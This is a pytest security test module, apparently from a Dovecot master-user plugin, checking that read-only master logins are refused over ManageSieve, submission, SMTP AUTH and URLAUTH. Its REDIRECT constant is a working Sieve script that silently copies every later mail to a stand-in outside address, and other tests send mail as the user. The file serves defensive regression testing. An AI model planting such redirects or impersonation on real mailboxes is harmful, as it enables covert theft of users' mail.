"""Read-only means no change through any service (second security review,
item 4). A master with dms_read_only=yes and every service in
dms_services logged in over ManageSieve and wrote and activated a Sieve
script with a redirect: every later mail to the user copied out. The same
master could send as the user through submission and SMTP AUTH, and set
the mailbox's URLAUTH key (GENURLAUTH, RESETKEY: a private mailbox
attribute, which ACLs allow with lookup rights alone).

Now a read-only master may use imap and pop3 only, whatever its services
say (rule read_only, audited), and the read-only mail plugin refuses
mailbox attribute changes and does not read the URLAUTH key. Each attack runs
against a real Dovecot with Pigeonhole's managesieve and Dovecot's
submission service, beside a control: the same steps by a master that is
not read-only succeed, so the refusals cannot come from a broken set-up.
Both ways of use, Dovecot 2.3 and 2.4."""

import imaplib
import os
import smtplib

import pytest

from dovecot_env import DOVECOT24, Dovecot, doveadm_pw, pick
from protocols import ManageSieve, services_conf
from test_logins import TARGET
from test_policy import PW, policy_extra, store_text

SIEVE_PORT = 4190
SUBMISSION_PORT = 587
MASTERS = {
    "rw": "dms_services=*",
    "ro": "dms_services=* dms_read_only=yes",
}
REDIRECT = 'require "copy";\r\nredirect :copy "someone@outside.example";\r\n'

# Sieve scripts in the user's home; URLAUTH on (it needs a mailbox
# attribute dict)
SIEVE_URLAUTH = pick("""
imap_urlauth_host = mail.example.com
mail_attribute_dict = file:%h/dovecot-attributes
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
}
""", """
imap_urlauth_host = mail.example.com
mail_attribute {
  dict file {
    path = %{home}/dovecot-attributes
  }
}
sieve_script personal {
  driver = file
  path = ~/sieve
  active_path = ~/.dovecot.sieve
}
""")


def services_extra(sink, offset=0):
    """managesieve and submission (relaying to the test's SMTP sink)
    beside imap and pop3, Sieve and URLAUTH."""
    return (services_conf(SUBMISSION_PORT + offset, sink.port,
                          SIEVE_PORT + offset) + SIEVE_URLAUTH)


@pytest.fixture(scope="module", params=["master", "selfsplit"])
def server(request, sink):
    extra = policy_extra() + services_extra(sink)
    s = Dovecot(request.param, args="audit_file=@AUDIT_FILE@", extra=extra)
    try:
        s.write_store(store_text(MASTERS, doveadm_pw(PW)))
        s.start()
        yield s
    finally:
        s.cleanup()


def home(server):
    local, domain = TARGET.split("@")
    return os.path.join(server.tmp, "mail", domain, local)


def assert_refused_read_only(server, mark, service):
    assert server.wait_log(mark, "Master ro refused by rule read_only: "
                           "Read-only master: not allowed for this service "
                           "(target=%s service=%s)" % (TARGET, service)), \
        server.log_since(mark)
    assert any(r["master"] == "ro" and r["rule"] == "read_only" and
               r["result"] == "refused" and r["service"] == service
               for r in server.audit_records())


# -- ManageSieve ------------------------------------------------------------

def test_sieve_control_writable_master_writes_scripts(server):
    """The control: a master that is not read-only writes and activates a
    redirect over ManageSieve, so the refusal below is the policy's."""
    ms = ManageSieve(SIEVE_PORT)
    try:
        assert ms.authenticate(TARGET + "*rw", PW)[0] == "OK"
        assert ms.putscript("rw-test", REDIRECT)[0] == "OK"
        assert ms.setactive("rw-test")[0] == "OK"
        status, lines = ms.listscripts()
        assert status == "OK" and any('"rw-test" ACTIVE' in line
                                      for line in lines), lines
    finally:
        ms.close()
    assert os.path.exists(os.path.join(home(server), "sieve",
                                       "rw-test.sieve"))
    ms = ManageSieve(SIEVE_PORT)
    try:
        assert ms.authenticate(TARGET + "*rw", PW)[0] == "OK"
        assert ms.setactive("")[0] == "OK"
        assert ms.command('DELETESCRIPT "rw-test"')[0] == "OK"
    finally:
        ms.close()


def test_sieve_read_only_master_refused(server):
    """The attack: a read-only master with dms_services=* uploads and
    activates a redirect. Its login is refused, nothing is written."""
    mark = server.log_mark()
    ms = ManageSieve(SIEVE_PORT)
    try:
        status, lines = ms.authenticate(TARGET + "*ro", PW)
        assert status == "NO", lines
        # the session never started: a script cannot be sent
        status, lines = ms.putscript("evil", REDIRECT)
        assert status == "NO", lines
    finally:
        ms.close()
    assert_refused_read_only(server, mark, "sieve")
    sieve_dir = os.path.join(home(server), "sieve")
    assert not os.path.exists(os.path.join(sieve_dir, "evil.sieve"))
    assert not os.path.lexists(os.path.join(home(server), ".dovecot.sieve"))


# -- submission and SMTP AUTH -------------------------------------------------

def submit(user, password, sender=TARGET):
    smtp = smtplib.SMTP("127.0.0.1", SUBMISSION_PORT, timeout=10)
    try:
        smtp.ehlo("client.test")
        smtp.login(user, password)
        smtp.sendmail(sender, ["someone@outside.example"],
                      "From: %s\r\nTo: someone@outside.example\r\n"
                      "Subject: as the user\r\n\r\nhello\r\n" % sender)
    finally:
        try:
            smtp.quit()
        except smtplib.SMTPException:
            smtp.close()


def test_submission_control_writable_master_sends(server, sink):
    before = len(sink.messages)
    submit(TARGET + "*rw", PW)
    assert len(sink.messages) == before + 1, sink.messages
    assert "as the user" in sink.messages[-1][2]


def test_submission_read_only_master_refused(server, sink):
    mark = server.log_mark()
    before = len(sink.messages)
    with pytest.raises(smtplib.SMTPAuthenticationError) as e:
        submit(TARGET + "*ro", PW)
    assert e.value.smtp_code == 535, e.value
    assert len(sink.messages) == before
    assert_refused_read_only(server, mark, "submission")


def test_smtp_auth_through_the_auth_socket(server):
    """Postfix's SMTP AUTH through Dovecot's auth socket: service smtp,
    no userdb. doveadm auth test is the same passdb lookup."""
    rc, out = server.doveadm_auth_test(TARGET + "*rw", PW, service="smtp")
    assert rc == 0, out
    mark = server.log_mark()
    rc, out = server.doveadm_auth_test(TARGET + "*ro", PW, service="smtp")
    assert rc != 0, out
    assert_refused_read_only(server, mark, "smtp")


# -- URLAUTH ----------------------------------------------------------------

# imaplib sends only the commands it knows
for _cmd in ("GENURLAUTH", "RESETKEY", "SETMETADATA"):
    imaplib.Commands.setdefault(_cmd, ("AUTH", "SELECTED"))


def capabilities(imap):
    typ, data = imap.capability()
    assert typ == "OK", data
    return data[-1].decode().upper().split()

def imap_session(server, user):
    imap = imaplib.IMAP4("127.0.0.1", server.imap_port, timeout=10)
    imap.login(user, PW)
    # the delivered message gets its UID 1
    assert imap.select("INBOX", readonly=True)[0] == "OK"
    return imap


def genurlauth(imap, user=TARGET):
    """The URL of the first message of USER's INBOX, or None when
    refused."""
    enc = user.replace("@", "%40")
    url = "imap://%s@mail.example.com/INBOX/;uid=1;urlauth=user+%s" % (
        enc, enc)
    typ, data = imap._simple_command("GENURLAUTH", '"%s"' % url, "INTERNAL")
    if typ != "OK":
        return None
    typ, data = imap._untagged_response(typ, data, "GENURLAUTH")
    return data[-1]


def resetkey(imap):
    typ, data = imap._simple_command("RESETKEY")
    return typ == "OK"


def test_urlauth_control_writable_master(server):
    imap = imap_session(server, TARGET + "*rw")
    try:
        # (2.4 leaves URLAUTH out of its default capability list, but
        # serves the commands)
        if not DOVECOT24:
            assert "URLAUTH" in capabilities(imap)
        url = genurlauth(imap)
        assert url is not None and b";urlauth=user+" in url, url
        assert resetkey(imap)
        # a new key: a new URL
        assert genurlauth(imap) not in (None, url)
    finally:
        imap.logout()


def test_urlauth_key_neither_read_nor_changed_by_read_only(server):
    """GENURLAUTH would hand out URLs with the key the owner (here, a
    writable master) made; RESETKEY would change it. Both are refused to
    a read-only session, and the key stays what it was."""
    rw = imap_session(server, TARGET + "*rw")
    try:
        before = genurlauth(rw)
        assert before is not None
        ro = imap_session(server, TARGET + "*ro")
        try:
            assert genurlauth(ro) is None
            assert not resetkey(ro)
        finally:
            ro.logout()
        assert genurlauth(rw) == before
    finally:
        rw.logout()


# The read-only plugin's own refusal of attribute changes, beneath the
# userdb's fields: an ordinary user whose userdb marks the session
# read-only as the dms_master userdb would (dms_read_only, the ACL group),
# with METADATA and URLAUTH left on, as a site configuration that won over
# the module's fields would leave them. The control: the target, same
# server, not read-only.
RO_USER = "rouser@example.com"


def test_read_only_plugin_refuses_attribute_changes(make_dovecot, sink):
    extra = policy_extra() + services_extra(sink, 1) + "imap_metadata = yes\n"
    d = make_dovecot("master", extra=extra, imap_port=11143,
                     pop3_port=11110)
    with open(os.path.join(d.tmp, "users"), "a") as f:
        f.write("%s:%s::::::userdb_dms_read_only=yes "
                "userdb_acl_groups=dms-master-read-only\n"
                % (RO_USER, doveadm_pw("ro-secret")))
    d.deliver(RO_USER, "Hello")
    d.start()
    for user, password, read_only in ((TARGET, "secret", False),
                                      (RO_USER, "ro-secret", True)):
        imap = imaplib.IMAP4("127.0.0.1", 11143, timeout=10)
        try:
            imap.login(user, password)
            assert imap.select("INBOX", readonly=True)[0] == "OK"
            typ, data = imap._simple_command(
                "SETMETADATA", "INBOX", '(/private/comment "changed")')
            assert (typ == "OK") != read_only, (user, data)
            if read_only:
                assert b"Read-only master session: nothing may be " \
                    b"changed" in data[-1], data
            assert (genurlauth(imap, user) is not None) != read_only, user
            assert resetkey(imap) != read_only, user
        finally:
            imap.logout()
